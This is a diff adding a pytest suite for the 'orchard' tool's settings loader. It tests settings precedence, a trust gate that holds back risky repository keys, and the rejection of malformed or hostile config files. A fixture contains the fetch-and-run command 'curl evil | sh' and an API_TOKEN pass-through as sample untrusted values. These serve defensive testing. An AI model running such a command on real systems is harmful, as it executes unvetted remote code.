@@ -1,0 +1,244 @@
+"""Which settings hold: flags over environment over repository over user over defaults."""
+
+import os
+from pathlib import Path
+
+import pytest
+
+from orchard.core.config import Config
+from orchard.errors import InvalidInput
+from orchard.store.dirs import UserDirs
+from orchard.store.settings import FILE_BYTES, LINE_DOTS, Settings, load_settings
+from orchard.store.trust import trust
+
+DANGEROUS = """
+max_parallel = 9
+setup = ["curl evil | sh"]
+pass_env = ["API_TOKEN"]
+[worktree]
+link = ["node_modules"]
+"""
+
+
+class Place:
+    """A repository's top and a user's folders."""
+
+    def __init__(self, root: Path) -> None:
+        self.top = root / "repo"
+        self.dirs = UserDirs(root / "state", root / "config", root / "run")
+        self.top.mkdir()
+        self.dirs.config.mkdir()
+
+    def repository(self, text: str | bytes) -> None:
+        (self.top / "orchard.toml").write_bytes(text if isinstance(text, bytes) else text.encode())
+
+    def user(self, text: str) -> None:
+        (self.dirs.config / "config.toml").write_text(text)
+
+    def load(self, flags: dict[str, object] | None = None, env: dict[str, str] | None = None) -> Settings:
+        return load_settings(self.top, flags or {}, env or {}, self.dirs)
+
+    def problems(self) -> list[str]:
+        with pytest.raises(InvalidInput) as caught:
+            self.load()
+        return [str(problem) for problem in caught.value.problems]
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Place:
+    return Place(tmp_path)
+
+
+def test_without_any_file_the_defaults_hold_and_nothing_is_made(place: Place, tmp_path: Path) -> None:
+    before = sorted(tmp_path.rglob("*"))
+
+    settings = place.load()
+
+    assert settings.config == Config()
+    assert sorted(tmp_path.rglob("*")) == before
+
+
+def test_flags_beat_the_environment_beats_the_repository_beats_the_user(place: Place) -> None:
+    place.user("max_parallel = 1\nresolver = 'ours'\n[heal]\nattempts = 1\n[limits]\ngrace = 1\nidle = 1\n")
+    place.repository("max_parallel = 2\nresolver = 'theirs'\n[heal]\nattempts = 2\n[limits]\ngrace = 2\n")
+    env = {"ORCHARD_MAX_PARALLEL": "3", "ORCHARD_RESOLVER": "fail", "ORCHARD_HEAL_ATTEMPTS": "3"}
+
+    settings = place.load({"max_parallel": 4, "resolver": None}, env)
+
+    assert (settings.config.max_parallel, settings.origins["max_parallel"]) == (4, "--max-parallel")
+    assert (settings.config.resolver, settings.origins["resolver"]) == ("fail", "ORCHARD_RESOLVER")
+    assert (settings.config.heal.attempts, settings.origins["heal.attempts"]) == (3, "ORCHARD_HEAL_ATTEMPTS")
+    assert (settings.config.limits.grace, settings.origins["limits.grace"]) == (2.0, "orchard.toml")
+    assert settings.config.limits.idle == 1.0
+    assert settings.origins["limits.idle"] == str(place.dirs.config / "config.toml")
+    assert settings.origins["setup"] == "default"
+
+
+def test_outside_a_repository_only_the_user_counts(place: Place) -> None:
+    place.user("max_parallel = 1")
+
+    assert load_settings(None, {}, {}, place.dirs).config.max_parallel == 1
+
+
+def test_warnings_about_variables_are_handed_on(place: Place) -> None:
+    assert "ORCHARD_MAX_PARALELL" in place.load(env={"ORCHARD_MAX_PARALELL": "1"}).warnings[0]
+
+
+# ------------------------------------------------------------------------------------------ trust
+
+
+def test_dangerous_keys_of_a_repository_have_no_effect_before_trust(place: Place) -> None:
+    place.user("setup = ['make deps']")
+    place.repository(DANGEROUS)
+
+    settings = place.load()
+
+    assert settings.config.setup == ("make deps",)
+    assert settings.config.pass_env == ()
+    assert settings.config.worktree.link == ()
+    assert settings.config.max_parallel == 9
+    assert settings.untrusted == {
+        "setup": ["curl evil | sh"],
+        "pass_env": ["API_TOKEN"],
+        "worktree.link": ["node_modules"],
+    }
+
+
+def test_dangerous_keys_count_once_their_content_is_trusted(place: Place) -> None:
+    place.repository(DANGEROUS)
+    asked = place.load()
+    assert asked.untrusted_digest is not None
+    trust(place.top, asked.untrusted_digest, place.dirs.state)
+
+    settings = place.load()
+
+    assert settings.config.setup == ("curl evil | sh",)
+    assert settings.config.pass_env == ("API_TOKEN",)
+    assert settings.config.worktree.link == ("node_modules",)
+    assert (settings.untrusted, settings.untrusted_digest) == ({}, None)
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        DANGEROUS.replace("evil", "worse"),
+        DANGEROUS.replace('"API_TOKEN"', '"API_TOKEN", "MORE"'),
+        DANGEROUS.replace('link = ["node_modules"]', ""),
+    ],
+)
+def test_changed_content_is_asked_about_again(place: Place, changed: str) -> None:
+    place.repository(DANGEROUS)
+    trust(place.top, str(place.load().untrusted_digest), place.dirs.state)
+    place.repository(changed)
+
+    settings = place.load()
+
+    assert settings.config.setup == ()
+    assert "setup" in settings.untrusted
+
+
+def test_a_change_of_harmless_keys_keeps_the_trust(place: Place) -> None:
+    place.repository(DANGEROUS)
+    trust(place.top, str(place.load().untrusted_digest), place.dirs.state)
+    place.repository(DANGEROUS.replace("max_parallel = 9", "# a comment\nmax_parallel = 2"))
+
+    settings = place.load()
+
+    assert settings.config.max_parallel == 2
+    assert settings.config.setup == ("curl evil | sh",)
+
+
+def test_the_users_own_file_needs_no_trust(place: Place) -> None:
+    place.user(DANGEROUS)
+
+    settings = place.load()
+
+    assert settings.config.setup == ("curl evil | sh",)
+    assert not settings.untrusted
+
+
+def test_an_empty_list_needs_no_trust(place: Place) -> None:
+    place.user("setup = ['make deps']")
+    place.repository("setup = []")
+
+    settings = place.load()
+
+    assert settings.config.setup == ()
+    assert not settings.untrusted
+
+
+def test_untrusted_keys_are_checked_all_the_same(place: Place) -> None:
+    place.repository("setup = 3")
+
+    assert place.problems() == ["orchard.toml:1 setup: must be a list of works, not a whole number"]
+
+
+def test_a_repositorys_file_cannot_put_worktrees_outside(place: Place) -> None:
+    place.repository("worktree_root = '/home'")
+
+    assert "must be a path inside the repository" in place.problems()[0]
+
+
+# ---------------------------------------------------------------------------------- hostile files
+
+
+def test_problems_of_both_files_come_at_once(place: Place) -> None:
+    place.user("nope = 1")
+    place.repository("x = = 1")
+
+    found = place.problems()
+
+    assert found[0].startswith("orchard.toml:1: is not valid TOML: ")
+    assert found[1].endswith("config.toml:1 nope: unknown key")
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"\xff\xfe", "is not UTF-8 text"),
+        (b"#" * (FILE_BYTES + 1), "is longer than 64 KiB"),
+        (b"a." * (LINE_DOTS + 1) + b"a = 1", f"has a line with more than {LINE_DOTS} dots"),
+        ("a.'\u2028'.".encode() * LINE_DOTS + b"a = 1", f"has a line with more than {LINE_DOTS} dots"),
+        (b"a = " + b"[" * 20_000, "is nested too deep"),
+        (b"max_parallel = " + b"9" * 6000, "is not valid TOML"),
+        (b"a = 1\na = = 2\n", "orchard.toml:2: is not valid TOML"),
+    ],
+    ids=["encoding", "long", "dots", "odd-line-ends", "deep", "huge-number", "syntax"],
+)
+def test_a_hostile_file_is_a_problem_and_takes_no_time(place: Place, content: bytes, message: str) -> None:
+    place.repository(content)
+
+    (problem,) = place.problems()
+
+    assert message in problem
+
+
+def test_a_file_as_bad_as_it_may_be_is_read_in_bounded_time(place: Place) -> None:
+    header = "[" + "a." * (LINE_DOTS - 1) + "a]\n"
+    row = "b" * 4 + ".b" * (LINE_DOTS - 1)
+    rows = "".join(f"k{number}{row} = 1\n" for number in range((FILE_BYTES - len(header)) // (len(row) + 10)))
+    place.repository(header + rows)
+
+    (problem,) = place.problems()
+
+    assert problem == "orchard.toml a: unknown key"
+
+
+def test_a_pipe_in_place_of_the_file_does_not_hang(place: Place) -> None:
+    os.mkfifo(place.top / "orchard.toml")
+
+    assert place.problems() == ["orchard.toml: is not a file"]
+
+
+def test_a_folder_or_device_in_place_of_the_file_is_a_problem(place: Place) -> None:
+    (place.top / "orchard.toml").symlink_to("/dev/zero")
+
+    assert place.problems() == ["orchard.toml: is not a file"]
+
+
+@pytest.mark.skipif(os.getuid() == 0, reason="root can read everything")
+def test_a_file_that_cannot_be_read_is_a_problem(place: Place) -> None:
+    place.repository("")
+    (place.top / "orchard.toml").chmod(0)
+
+    assert place.problems() == ["orchard.toml: cannot be read: Permission denied"]
